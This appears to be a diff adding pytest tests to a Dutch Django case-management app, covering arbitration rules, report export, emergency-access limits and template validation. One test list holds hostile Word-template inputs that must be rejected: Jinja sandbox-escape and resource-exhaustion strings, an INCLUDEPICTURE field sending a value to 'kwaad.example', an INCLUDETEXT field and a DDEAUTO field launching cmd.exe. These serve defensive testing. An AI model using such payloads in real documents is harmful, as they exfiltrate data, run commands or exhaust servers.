@@ -11,6 +11,7 @@ from django.db import IntegrityError, transaction
 from django.urls import reverse
 from django.utils import timezone
 from docx import Document
+from docx.oxml import OxmlElement
 
 from casuistiek import rapport, services
 from casuistiek.models import Casus, Noodtoegang, Overdracht, Sjabloon, Verstrekking
@@ -111,6 +112,31 @@ def test_both_sides_then_a_decision_that_asks_the_chosen_regisseur(bt):
         services.beslis_arbitrage(arbitrage=row, by=bt.chef, besluit="Toch niet.")
 
 
+def test_who_asked_does_not_decide(bt):
+    casus = factories.casus(bt)
+    row = services.vraag_arbitrage(casus=casus, by=bt.chef, vraag="Van wie?", tekst="x")
+    services.geef_standpunt(arbitrage=row, by=bt.woe, tekst="y")
+
+    with pytest.raises(RegelOvertreden, match="zelf"):
+        services.beslis_arbitrage(arbitrage=row, by=bt.chef, besluit="Van mij.")
+    with pytest.raises(IntegrityError), transaction.atomic():
+        type(row).objects.filter(pk=row.pk).update(
+            besluit="x", besloten_op=timezone.now(), besloten_door=bt.chef
+        )
+
+
+def test_who_sees_it_differently_can_read_it_and_say_so(bt, client):
+    casus = factories.casus(bt)
+    row = services.vraag_arbitrage(casus=casus, by=bt.woe, vraag="Van wie?", tekst="x", ander=bt.vervanger)
+    client.force_login(bt.vervanger)
+
+    client.post(
+        reverse("casuistiek:arbitrage", args=[row.pk]), {"stap": "kant", "kant-tekst": "Van het gebied."}
+    )
+
+    assert row.standpunten.filter(medewerker=bt.vervanger, tekst="Van het gebied.").exists()
+
+
 def test_only_the_teamchef_decides(bt, client):
     casus = factories.casus(bt)
     row = services.vraag_arbitrage(casus=casus, by=bt.woe, vraag="Van wie?", tekst="x")
@@ -148,6 +174,10 @@ def disclosed(bt, onderdelen, **anders):
     )
 
 
+def eigen_sjabloon(bt):
+    return services.sjabloon_bytes(services.sjabloon_of(bt.team.pk))
+
+
 def parts_of(content):
     """All text in a .docx, from every file inside it."""
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
@@ -157,7 +187,7 @@ def parts_of(content):
 def test_what_was_left_out_is_nowhere_in_the_files(bt):
     row = disclosed(bt, ["wat_gebeurd"])
 
-    word = rapport.make_docx(row.inhoud, services.sjabloon_of(bt.team.pk))
+    word = rapport.make_docx(row.inhoud, eigen_sjabloon(bt))
     pdf = rapport.make_rapport_pdf(row.inhoud)
 
     assert "Wat er &amp; &lt;was&gt;" in parts_of(word)
@@ -176,6 +206,39 @@ def test_each_part_can_be_chosen_alone(bt, onderdeel):
 
     assert {deel["kop"] for deel in row.inhoud["delen"]} <= {rapport.VELDEN[onderdeel]}
     assert rapport.make_rapport_pdf(row.inhoud).startswith(b"%PDF")
+
+
+def test_dates_in_the_report_are_those_of_here(bt):
+    with time_machine.travel(op("2026-07-02", 0, 30), tick=False):
+        row = disclosed(bt, ["periode"])
+
+    assert row.inhoud["delen"][0]["regels"] == ["Vanaf 02-07-2026, loopt nog"]
+
+
+def test_a_character_without_a_shape_is_no_fault(bt):
+    row = disclosed(bt, ["maatregelen"], maatregelen="Sluit de woning 🔥 漢 é")
+
+    assert rapport.make_rapport_pdf(row.inhoud).startswith(b"%PDF")
+
+
+def test_what_goes_in_can_be_seen_first(bt, client):
+    casus, gemeente = factories.casus(bt), factories.partner(bt.team)
+    client.force_login(bt.woe)
+
+    html = client.post(
+        reverse("casuistiek:disclose", args=[casus.pk]),
+        {
+            "organisatie": gemeente.pk,
+            "ontvanger": "x",
+            "grondslag": "wpg16",
+            "doel": "y",
+            "onderdelen": ["wat_gebeurd"],
+            "stap": "bekijk",
+        },
+    ).content.decode()
+
+    assert "Dit komt erin" in html
+    assert not Verstrekking.objects.exists()
 
 
 def test_a_disclosure_is_frozen_as_it_was_given(bt):
@@ -238,10 +301,10 @@ def test_the_team_brings_its_own_template(bt, client):
 
     row = disclosed(bt, ["titel"])
     assert "Eigen huisstijl voor de burgemeester" in parts_of(
-        rapport.make_docx(row.inhoud, services.sjabloon_of(bt.team.pk))
+        rapport.make_docx(row.inhoud, eigen_sjabloon(bt))
     )
     client.post(reverse("casuistiek:sjabloon-remove"))
-    assert "Eigen huisstijl" not in parts_of(services.sjabloon_of(bt.team.pk))
+    assert "Eigen huisstijl" not in parts_of(eigen_sjabloon(bt))
 
 
 def zip_with(content, name, text):
@@ -261,12 +324,33 @@ def with_picture_from_outside():
     return rapport._bytes(document)
 
 
+def with_field(*codes):
+    """A document with a Word field, its code in one piece or split as Word does."""
+    document = Document()
+    run = document.add_paragraph().add_run()
+    for code in codes:
+        element = OxmlElement("w:instrText")
+        element.text = code
+        run._r.append(element)
+    return rapport._bytes(document)
+
+
 @pytest.mark.parametrize(
     ("maak", "zegt"),
     [
         (lambda: b"geen zip", "geen Word-document"),
         (lambda: word_file("{{ titel"), "een invulveld klopt niet"),
         (lambda: word_file("{% for x in %}"), "een invulveld klopt niet"),
+        (lambda: word_file("{% set x = 'a' * 300000000 %}"), "een invulveld klopt niet"),
+        (lambda: word_file("{% for a in range(99999) %}x{% endfor %}"), "een invulveld klopt niet"),
+        (
+            lambda: word_file("{% macro a() %}{{ a() }}{{ a() }}{% endmacro %}{{ a() }}"),
+            "een invulveld klopt niet",
+        ),
+        (lambda: word_file("{{ titel|center(999999999) }}"), "een invulveld klopt niet"),
+        (lambda: with_field('INCLUDEPICTURE "https://kwaad.example/?q={{ doel }}"'), "een veld in"),
+        (lambda: with_field("INCL", "UDETEXT c:\\x"), "een veld in"),
+        (lambda: with_field("DDEAUTO c:\\cmd.exe"), "een veld in"),
         (lambda: word_file("{{ ''.__class__.__mro__ }}"), "een invulveld klopt niet"),
         (lambda: zip_with(word_file("x"), "word/vbaProject.bin", "x"), "macro"),
         (lambda: zip_with(word_file("x"), "word/groot.xml", "0" * (21 * 1024 * 1024)), "uitgepakt te groot"),
@@ -301,6 +385,52 @@ def test_break_glass_opens_for_a_day_and_is_told(bt, client):
     assert heard(bt.woe, "noodtoegang") == heard(bt.chef, "noodtoegang") == 1
     Noodtoegang.objects.update(tot=timezone.now())
     assert client.get(url).status_code == 404
+
+
+def test_break_glass_is_for_reading_and_bijschrijven_not_for_taking_over(bt, client):
+    casus = factories.casus(bt, vertrouwelijk=True)
+    services.open_noodtoegang(
+        team=bt.team, by=bt.ggp, referentie=casus.referentie, reden="Ik ben nieuwsgierig."
+    )
+    client.force_login(bt.ggp)
+
+    statuses = {
+        name: client.post(reverse(f"casuistiek:{name}", args=[casus.pk])).status_code
+        for name in (
+            "take-over",
+            "betrokkene-add",
+            "disclose",
+            "partner-add",
+            "shop-add",
+            "debrief-add",
+            "casus-change",
+            "arbitrage-ask",
+        )
+    }
+
+    assert set(statuses.values()) == {403}
+    assert client.get(reverse("casuistiek:gebeurtenis-add", args=[casus.pk])).status_code == 200
+    assert "Ik neem over" not in client.get(casus.get_absolute_url()).content.decode()
+
+
+def test_turned_down_once_it_does_not_open_again(bt):
+    casus = factories.casus(bt)
+    vraag = {"team": bt.team, "by": bt.ggp, "referentie": casus.referentie, "reden": "Ik ben nieuwsgierig."}
+    row = services.open_noodtoegang(**vraag)
+    services.beoordeel_noodtoegang(noodtoegang=row, by=bt.chef, oordeel="onterecht")
+
+    assert services.open_noodtoegang(**vraag) is None
+    assert heard(bt.chef, "wilde weer met noodtoegang") == 1
+
+
+def test_trying_numbers_is_told(bt):
+    for nummer in (91, 92, 93, 94):
+        services.open_noodtoegang(
+            team=bt.team, by=bt.ggp, referentie=f"C-{nummer}", reden="Kijken of deze er is."
+        )
+
+    assert heard(bt.chef, "probeerde vaak noodtoegang") == 1
+    assert Logregel.objects.filter(actie="noodtoegang.asked", reden__startswith="C-92").count() == 1
 
 
 def test_an_unknown_reference_is_recorded_too_and_a_short_reason_opens_nothing(bt, client):
@@ -405,6 +535,17 @@ def test_closing_with_an_open_overdracht_tells_who_was_asked(bt):
 
     assert not Overdracht.objects.filter(besloten_op=None).exists()
     assert heard(bt.woe, "is ingetrokken") == 1
+
+
+def test_a_scenario_that_somebody_else_changed_is_not_overwritten(bt):
+    casus = factories.casus(bt)
+    row = services.save_scenario(casus=casus, by=bt.woe, naam="A", handelingskader="Eerste")
+    services.save_scenario(casus=casus, scenario=row, versie=1, by=bt.oe, naam="A", handelingskader="Tweede")
+
+    with pytest.raises(RegelOvertreden, match="intussen gewijzigd"):
+        services.save_scenario(
+            casus=casus, scenario=row, versie=1, by=bt.woe, naam="A", handelingskader="Derde"
+        )
 
 
 def test_an_event_in_the_future_is_refused_and_what_was_typed_stays(bt, client):
